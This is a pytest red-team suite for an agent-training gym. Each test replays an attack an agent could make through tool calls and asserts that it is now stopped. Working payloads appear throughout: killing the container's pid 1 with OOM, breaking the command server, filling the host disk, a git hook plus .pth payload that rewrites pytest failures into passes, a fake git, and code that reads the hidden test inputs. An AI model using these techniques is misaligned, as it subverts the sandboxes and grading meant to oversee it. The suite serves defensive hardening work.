"""Red-team attacks found after the domains and sandboxes were hardened (issue 13): each made as an
agent makes it, through env.step tool calls on a shipped id, asserting the SAFE behaviour. An attack
on a domain whose fix belongs to another owner is xfail(strict=True) with the hole named, so the
suite stays green and the hole stays on record until its owner closes it."""

from __future__ import annotations

from typing import Any

import pytest

from tests.adversarial.test_shell import bash, beside, call

docker = pytest.mark.docker

#: Raise the container's pid 1 (the keeper) to the highest OOM score, then fill the memory limit
#: with many mid-sized processes: each scores below pid 1 (their own adj is the server's 500), so
#: the kernel's OOM killer takes pid 1 and the whole container stops.
OOM_PID1 = ("echo 1000 > /proc/1/oom_score_adj; "
            "lim=$(cat /sys/fs/cgroup/memory.max 2>/dev/null || cat /sys/fs/cgroup/memory/memory.limit_in_bytes); "
            "chunk=$((lim/16)); for i in $(seq 24); do python3 -c \"import time; a=bytearray($chunk); "
            "a[::4096]=b'x'*len(a[::4096]); time.sleep(30)\" & done; sleep 20")


@pytest.fixture(scope="module")
def docker_pair() -> Any:
    import agentgym

    a = agentgym.make("shell-fixture", runtime="docker")
    b = agentgym.make("shell-fixture", runtime="docker")
    try:
        yield a, b
    finally:
        a.close()
        b.close()


@docker
def test_attack_oom_kill_the_containers_pid1(docker_pair: tuple[Any, Any]) -> None:
    """Root in the container writes 1000 to /proc/1/oom_score_adj and fills the memory limit with
    24 processes of 1/16 of it each: the kernel's OOM killer picks pid 1 and the container stops.
    The channel could not reopen, so this was 'Infrastructure error (not your fault)' (ChannelDied)
    and the episode left out of scores. Stopped by the channel asking Docker why the container
    ended: OOMKilled is SandboxOutOfMemory, an agent failure that ends the episode with reward 0;
    reset gives a fresh container and the neighbour's episode is untouched."""
    a, b = docker_pair
    with beside(b):
        a.reset(options={"task_id": "hello"})
        call(a, "write_file", path="hello.txt", content="hello, world\n")  # a correct answer, then the attack
        text, reward, terminated, info = call(a, "bash", command=OOM_PID1, timeout=40)
        assert "error" not in info, (text, info)
        assert terminated and reward == 0.0 and "out of memory" in info.get("agent_failure", ""), (text, info)
    a.reset(options={"task_id": "hello"})
    assert "alive" in bash(a, "echo alive")



#: Root in the container replaces the python3 the channel server starts with, then kills the
#: running server: on a writable root no fresh server could start.
BREAK_SERVER = ("p=$(command -v python3); cp $(readlink -f $p) /usr/bin/py-real; rm -f $p; "
                "printf '#!/bin/sh\\nexit 1\\n' > $p; chmod +x $p; "
                "s=$(for d in /proc/[0-9]*; do [ \"$(cat $d/comm 2>/dev/null)\" = agentgym-chan ] && basename $d; done); "
                "(sleep 1; kill -9 $s) >/dev/null 2>&1 &")


@docker
@pytest.mark.parametrize("env_id, task_id", [("swe-synth-lite", "semver-3.0.2__synth-0002"),
                                             ("ts-impute", "imp-scattered-d-10")])
def test_attack_break_the_command_servers_python(env_id: str, task_id: str) -> None:
    """Replace python3 with a script that exits, then kill the command server. The next call could
    not reopen the channel: 'Infrastructure error (not your fault)' for every call after. Stopped:
    both sandboxes have a read-only root, so python3 cannot be replaced and the kill alone is the
    agent's failure (the server killed from inside) and a fresh server answers (on a writable root
    a server that no longer starts is SandboxServerBroken: tests/test_sandbox_docker.py). The
    server also starts as python -I -S, so a planted .pth or sitecustomize never runs in it."""
    import time

    import agentgym

    kwargs = {"tasks": [task_id]} if env_id.startswith("ts-") else {}
    env = agentgym.make(env_id, runtime="docker", **kwargs)
    try:
        env.reset(options={"task_id": task_id})
        env.step({"name": "bash", "arguments": {"command": BREAK_SERVER}})
        for _ in range(10):  # the kill comes a second after the command returned (later under load)
            time.sleep(1.5)
            obs, reward, term, _, info = env.step({"name": "bash", "arguments": {"command": "echo hi"}})
            if "agent_failure" in info or "error" in info:
                break
        assert "error" not in info, info
        assert "command server" in info.get("agent_failure", ""), (obs["text"], info)
        if not term:
            obs, *_ = env.step({"name": "bash", "arguments": {"command": "python3 -c 'print(40 + 2)'"}})
            assert "42" in obs["text"], obs["text"]
        env.reset(options={"task_id": task_id})
        obs, *_ = env.step({"name": "bash", "arguments": {"command": "python3 -c 'print(40 + 2)'"}})
        assert "42" in obs["text"]
    finally:
        env.close()


@docker
@pytest.mark.parametrize("env_id, task_id", [("ts-impute", "imp-scattered-d-10"),
                                             ("swe-synth-lite", "semver-3.0.2__synth-0002")])
def test_attack_fill_the_host_disk_through_the_writable_root(env_id: str, task_id: str) -> None:
    """Three 1.9 GB fallocate calls in /var/tmp (RLIMIT_FSIZE caps one file at 2 GB, not their
    number): on a writable root the blocks are taken on the host disk that holds every container,
    PostgreSQL data and image at once. Safe behaviour: the sandbox's writable space is bounded (a
    read-only root with tmpfs sized from the memory limit, as the shell fixture and the time-series
    envs have; SWE's /testbed is a tmpfs volume that starts with the image's repository), so the
    allocations fail inside the sandbox."""
    import agentgym

    kwargs = {"tasks": [task_id]} if env_id.startswith("ts-") else {}
    env = agentgym.make(env_id, runtime="docker", **kwargs)
    try:
        env.reset(options={"task_id": task_id})
        obs, _, _, _, info = env.step({"name": "bash", "arguments": {
            "command": "for i in 1 2 3; do fallocate -l 1900M /var/tmp/f$i || echo REFUSED; done; rm -f /var/tmp/f*"}})
        assert "error" not in info, info
        assert "REFUSED" in obs["text"], obs["text"][:500]
    finally:
        env.close()


@docker
def test_attack_fill_the_testbed_to_the_last_byte_beside_a_neighbour() -> None:
    """Fill /testbed, the SWE sandbox's largest writable place, to its last byte (fallocate past its
    size, then dd until ENOSPC) and keep going: the writes fail inside the sandbox, the command
    server still answers (the tmpfs stays under the memory limit), and the submission of a full
    repository is a 0 with no info["error"]. A neighbour's episode of the same instance, open with
    the gold patch applied all along, still grades 1.0."""
    import agentgym

    tid = "semver-3.0.2__synth-0002"
    a, b = (agentgym.make("swe-synth-lite", runtime="docker") for _ in range(2))
    try:
        a.reset(options={"task_id": tid})
        b.reset(options={"task_id": tid})
        b.step({"name": "editor", "arguments": {"command": "create", "path": "/tmp/gold.diff",
                                                "file_text": b.unwrapped.instance(tid).patch}})
        obs, *_ = b.step({"name": "bash", "arguments": {"command": "git apply /tmp/gold.diff && echo APPLIED"}})
        assert "APPLIED" in obs["text"], obs["text"]
        obs, _, _, _, info = a.step({"name": "bash", "arguments": {"command":
            "fallocate -l 8G /testbed/fill || echo REFUSED; dd if=/dev/zero of=/testbed/fill2 bs=1M; "
            "df -k /testbed | tail -1"}})
        assert "error" not in info and "REFUSED" in obs["text"] and "No space left" in obs["text"], obs["text"]
        assert " 100% " in obs["text"], obs["text"]
        obs, _, _, _, info = a.step({"name": "bash", "arguments": {"command": "echo still-$((6 * 7))"}})
        assert "still-42" in obs["text"] and "error" not in info, (obs["text"], info)
        _, reward, term, _, info = a.step({"name": "submit", "arguments": {}})
        assert term and reward == 0.0 and "error" not in info, info
        _, reward, term, _, info = b.step({"name": "submit", "arguments": {}})
        assert term and reward == 1.0 and "error" not in info, info
    finally:
        a.close()
        b.close()


# ---- SWE: a git hook from the diff runs before the supervised run ----------------------------------

#: post-checkout hook: runs in the GRADING sandbox when the grader restores the test files with
#: `git checkout`, i.e. before the test patch, the canaries and the harness. It keeps a copy of the
#: pristine test files and drops a .pth (plus its module) into the interpreter's site-packages,
#: which every later Python of the run, the test process under runner_boot.py included, executes.
HOOK = r"""#!/bin/sh
top=$(pwd); up=$(dirname "$top")
[ -e "$up/rt-pristine" ] && exit 0
mkdir -p "$up/rt-pristine"
find . -path ./.git -prune -o -name '*.py' -print | while read -r f; do mkdir -p "$up/rt-pristine/$(dirname "$f")"; cp "$f" "$up/rt-pristine/$f"; done
sp=$(python3 -c 'import site; print(site.getsitepackages()[0])')
cp "$0.payload" "$sp/zz_rt_payload.py" 2>/dev/null || true
echo "import zz_rt_payload" > "$sp/zz_rt.pth"
exit 0
"""

#: In the test process: canaries are the test functions that are neither in the pristine copy nor
#: added by the grader's test.diff; every other failing test is reported passed (pytest itself
#: believes it, so records, summary and exit status agree).
PAYLOAD = r'''import os, re, sys
def _go():
    try:
        cmd = open("/proc/self/cmdline", "rb").read()
    except OSError:
        return
    if b"runner_boot" not in cmd:
        return
    import site
    for d in site.getsitepackages():
        if d not in sys.path:
            sys.path.append(d)
    import _pytest.reports as r
    here = os.getcwd()
    up = os.path.dirname(here)
    cache = {}
    def names(text):
        return set(re.findall(r"def (test\w*)", text))
    def read(p):
        try:
            return open(p).read()
        except OSError:
            return ""
    def canaries(rel):
        if rel not in cache:
            added = ""
            for d in (os.path.join(up, "tmp", "agentgym-grade", "test.diff"), "/agentgym-grade/test.diff"):
                added += "\n".join(l for l in read(d).splitlines() if l.startswith("+"))
            cache[rel] = names(read(os.path.join(here, rel))) - names(read(os.path.join(up, "rt-pristine", rel))) - names(added)
        return cache[rel]
    orig = r.TestReport.from_item_and_call.__func__
    def forged(cls, item, call):
        rep = orig(cls, item, call)
        name = getattr(item, "originalname", None) or item.name.split("[")[0]
        if rep.when == "call" and rep.failed and name not in canaries(item.nodeid.split("::")[0]):
            rep.outcome, rep.longrepr = "passed", None
        return rep
    r.TestReport.from_item_and_call = classmethod(forged)
try:
    _go()
except Exception:
    pass
'''

#: The agent's `git` answers the env's `git diff --cached` with the crafted diff (locally a script
#: first on PATH, in the sandbox's own venv; on docker, root replaces /usr/bin/git).
FAKE_GIT = """#!/bin/sh
case "$*" in *"diff --cached"*) cat "$HOME/rt.diff"; exit 0;; esac
PATH=$(echo "$PATH" | cut -d: -f2-) exec git "$@"
"""


def _new_file(path: str, text: str, mode: str) -> str:
    lines = text.splitlines()
    return (f"diff --git a/{path} b/{path}\nnew file mode {mode}\n--- /dev/null\n+++ b/{path}\n"
            f"@@ -0,0 +1,{len(lines)} @@\n" + "".join(f"+{line}\n" for line in lines))


@pytest.fixture(scope="module")
def calc(tmp_path_factory: pytest.TempPathFactory) -> Any:
    import swe_fixture

    return swe_fixture.build(tmp_path_factory.mktemp("swe-redteam"))


@pytest.mark.parametrize("runtime", ["local", pytest.param("docker", marks=pytest.mark.docker)])
def test_attack_git_hook_from_the_diff_forges_the_run(calc: Any, runtime: str) -> None:
    """The submitted diff creates .git/hooks/post-checkout (git-style header, mode 100755) and its
    payload; git apply refuses a .git path, patch writes it. When the grader restores the test files
    with git checkout, the hook runs: it copies the pristine tests and plants a .pth in
    site-packages. In the test process the payload tells canaries apart (new names that the
    grader's test.diff did not add) and flips every other failure to a pass. This scored 1.0 on
    both runtimes, canaries failing as they must, nothing flagged. Stopped: the filter drops every
    section on .git (reported in ignored_paths), patch is never given a path outside the tracked
    tree, and the grader's git runs by absolute path with core.hooksPath=/dev/null."""
    import base64

    import agentgym

    diff = _new_file(".git/hooks/post-checkout", HOOK, "100755") + _new_file(".git/hooks/post-checkout.payload",
                                                                             PAYLOAD, "100644")
    d64, g64 = base64.b64encode(diff.encode()).decode(), base64.b64encode(FAKE_GIT.encode()).decode()
    if runtime == "local":
        plant = f"b=$(dirname $(command -v python3)); echo {g64} | base64 -d > $b/git; chmod +x $b/git"
    else:
        # the root is read-only (the image's git stays): the fake goes first on the persistent shell's PATH
        plant = (f"mkdir -p /tmp/bin; echo {g64} | base64 -d > /tmp/bin/git; chmod +x /tmp/bin/git; "
                 "export PATH=/tmp/bin:$PATH")
    env = agentgym.make("swe-verified", dataset=str(calc["dataset"]), repo_source=str(calc["repo"]), runtime=runtime)
    try:
        env.reset(options={"task_id": "acme__calc-1"})
        obs, _, term, _, _ = env.step({"name": "bash", "arguments": {
            "command": f"echo {d64} | base64 -d > $HOME/rt.diff; {plant}; echo planted"}})
        assert "planted" in obs["text"] and not term, obs["text"]
        obs, reward, term, _, info = env.step({"name": "submit"})
        assert term and "error" not in info, info
        assert reward == 0.0, (obs["text"], env.last_report)
        assert ".git/hooks/post-checkout" in env.last_report.ignored_paths, env.last_report
    finally:
        env.close()


# ---- time series: the translation's loop at import time, on inputs read from cases.json -----------

#: SES written as the loop it should replace: sequential recursion (mutual, so the AST's self-call
#: check misses it; divide and conquer, so the depth stays small), run at IMPORT on every hidden
#: input read from cases.json (left next to the module); smooth() only looks the answer up.
SES_AT_IMPORT = 'import numpy as np\nimport pandas as pd\n\npd.Series([0.0]).ewm(alpha=0.5)\n_CASES = pd.read_json("cases.json", orient="records", precise_float=True, dtype=False)\n_DONE = {}\n\n\ndef _fill(y, alpha, out, lo, hi):\n    if hi - lo == 1:\n        out[lo] = alpha * y[lo] + (1 - alpha) * out[lo - 1] if lo else y[0]\n    elif hi > lo:\n        mid = (lo + hi) // 2\n        _fill2(y, alpha, out, lo, mid)\n        _fill2(y, alpha, out, mid, hi)\n\n\ndef _fill2(y, alpha, out, lo, hi):\n    _fill(y, alpha, out, lo, hi)\n\n\ndef _rows(lo, hi):\n    if hi - lo == 1:\n        row = _CASES.iloc[lo]\n        y = np.asarray(row["y"], dtype=float)\n        out = np.empty(len(y))\n        _fill(y, row["params"]["alpha"], out, 0, len(y))\n        _DONE[(y.tobytes(), row["params"]["alpha"])] = out\n    elif hi > lo:\n        mid = (lo + hi) // 2\n        _rows2(lo, mid)\n        _rows2(mid, hi)\n\n\ndef _rows2(lo, hi):\n    _rows(lo, hi)\n\n\n_rows(0, len(_CASES))\n\n\ndef smooth(y, alpha):\n    return _DONE[(np.asarray(y, dtype=float).tobytes(), alpha)]\n'


@pytest.mark.parametrize("runtime", ["local", pytest.param("docker", marks=pytest.mark.docker)])
def test_attack_translation_loop_at_import_on_the_hidden_inputs(runtime: str) -> None:
    """eng-translate-ses-numpy-to-pandas: the module reads cases.json with pandas at import, runs the
    numpy loop as mutual recursion for every hidden input, and smooth() returns the stored levels.
    No ewm is used (one dummy call satisfies the AST's required call). This scored 1.0 on both
    runtimes. Safe behaviour: the work measure covers the import too and the hidden inputs are out
    of the module's reach (read by the runner, then removed), so it scores 0."""
    import agentgym

    task = "eng-translate-ses-numpy-to-pandas"
    env = agentgym.make("ts-engineering", runtime=runtime, tasks=[task])
    try:
        env.reset(options={"task_id": task, "max_turns": 50})
        env.step({"name": "write_file", "arguments": {"path": "smoothing.py", "content": SES_AT_IMPORT}})
        obs, reward, term, _, info = env.step({"name": "submit", "arguments": {}})
        assert term and "error" not in info, info
        assert reward == 0.0, obs["text"][:500]
    finally:
        env.close()


# ---- already stopped, not covered elsewhere ----------------------------------------------------------

@pytest.mark.parametrize("runtime", ["local", pytest.param("docker", marks=pytest.mark.docker)])
def test_attack_symlink_loop_at_the_answer_path(runtime: str) -> None:
    """answer.txt is a symlink to itself and l1/l2 point at each other: open() fails with ELOOP, an
    OSError the server could have answered as an unknown error type (the host reports those as
    infrastructure). Stopped: the server's typed open refuses it ('cannot be opened'), an agent
    failure; the read tool goes on and the submission is reward 0."""
    import agentgym

    env = agentgym.make("shell-fixture", runtime=runtime)
    try:
        env.reset(options={"task_id": "count-lines"})
        bash(env, "ln -s answer.txt answer.txt; ln -s l2 l1; ln -s l1 l2")
        text, _, term, info = call(env, "read_file", path="l1")
        assert not term and "error" not in info and "symbolic links" in info.get("agent_failure", ""), info
        text, reward, term, info = call(env, "submit")
        assert term and reward == 0.0 and "error" not in info and info.get("agent_failure"), info
    finally:
        env.close()
